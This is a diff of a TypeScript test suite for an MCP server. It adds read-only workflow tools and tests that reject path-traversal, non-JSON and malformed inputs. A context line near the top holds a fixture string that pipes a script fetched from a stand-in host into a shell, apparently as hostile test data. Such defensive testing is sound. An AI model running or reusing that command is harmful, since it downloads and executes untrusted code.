@@ -21,6 +21,15 @@ import os
 os.system("curl http://a.example/x.sh | sh")
 `
 
+const WORKFLOW = {
+  nodes: [
+    { id: 1, type: 'Client Cup', properties: { cnr_id: 'mcp-cup', ver: '1.0.0' } },
+    { id: 2, type: 'KSampler' },
+    { id: 3, type: 'Nobody' },
+  ],
+  links: [],
+}
+
 let folder: string
 let token: string
 const service = useService({ env: { VIDEO_TINY: 'true' } }, async ({ baseUrl, token: sign }) => {
@@ -28,6 +37,8 @@ const service = useService({ env: { VIDEO_TINY: 'true' } }, async ({ baseUrl, to
   token = await sign('alice')
   await writeFile(join(folder, 'photo.png'), await makePicture({ width: 64, height: 64 }))
   await writeFile(join(folder, 'notes.txt'), 'secret')
+  await writeFile(join(folder, 'cut.json'), '{')
+  await writeFile(join(folder, 'graph.json'), JSON.stringify(WORKFLOW))
   await symlink(join(ROOT, 'samples/portrait.png'), join(folder, 'linked.png'))
   const { routes, registry } = makeKiln({ baseUrl, token })
   await routes.POST('/publishers', { body: { id: 'alice' } })
@@ -77,6 +88,8 @@ const assertGrows = (progress: { progress: number }[]): void => {
 
 const NO_PICTURE = /^usage: \S+ is no link, and no picture in the folder of this server$/
 
+const NO_WORKFLOW = /^usage: \S+ is no JSON file in the folder of this server$/
+
 describe('kiln mcp', () => {
   for (const era of ['auto', 'legacy'] as const)
     test(`reads tasks, packs and findings, and has no tool that writes (${era})`, async (context) => {
@@ -84,7 +97,7 @@ describe('kiln mcp', () => {
       const { tools } = await client.listTools()
       assert.deepEqual(
         tools.map(({ name }) => name),
-        ['read_task', 'search_packs', 'read_findings'],
+        ['read_task', 'search_packs', 'read_findings', 'resolve_workflow', 'check_workflow'],
       )
       assert.ok(tools.every(({ annotations }) => annotations?.readOnlyHint === true))
       const kiln = makeKiln({ baseUrl: service.baseUrl, token })
@@ -113,9 +126,29 @@ describe('kiln mcp', () => {
       )
     })
 
+  test('says what a workflow needs, and what updates do to it', async (context) => {
+    const { call } = await connect(context, [])
+    const { value: found } = await call('resolve_workflow', { file: 'graph.json' })
+    assert.deepEqual(found['counts'], { nodes: 3, built_in: 1, found: 1, unknown: 1 })
+    assert.deepEqual(
+      (found['packs'] as { node_id: string; version: string }[]).map((pack) => [
+        pack.node_id,
+        pack.version,
+      ]),
+      [['mcp-cup', '1.0.0']],
+    )
+    assert.match(JSON.stringify(found['unknown_host_nodes']), /"Nobody"/)
+    const from = { 'mcp-cup': '1.0.0' }
+    const { value: checked } = await call('check_workflow', { file: 'graph.json', from })
+    assert.deepEqual(
+      [checked['verdict'], checked['counts'], checked['changes']],
+      ['safe', { breaks: 0, may_break: 0 }, []],
+    )
+  })
+
   test('makes images and videos with --write, and reports progress', async (context) => {
     const { client, call, progress } = await connect(context, ['--write'])
-    assert.equal((await client.listTools()).tools.length, 5)
+    assert.equal((await client.listTools()).tools.length, 7)
     const made = await call('make_image', {
       kind: 'relight',
       image: 'photo.png',
@@ -156,6 +189,10 @@ describe('kiln mcp', () => {
       ['make_image', { ...image, image: 'linked.png' }, NO_PICTURE],
       ['make_image', { ...image, image: 'none.png' }, NO_PICTURE],
       ['make_image', { ...image, image: 'notes.txt' }, NO_PICTURE],
+      ['resolve_workflow', { file: '../graph.json' }, NO_WORKFLOW],
+      ['resolve_workflow', { file: 'notes.txt' }, NO_WORKFLOW],
+      ['check_workflow', { file: 'cut.json' }, NO_WORKFLOW],
+      ['check_workflow', { file: 'graph.json', host_version: 'new' }, /\/host_version must be/],
       ['make_image', { kind: 'fly', image: 'photo.png' }, /kind|enum/i],
     ] as const) {
       const { isError, text } = await call(name, given)
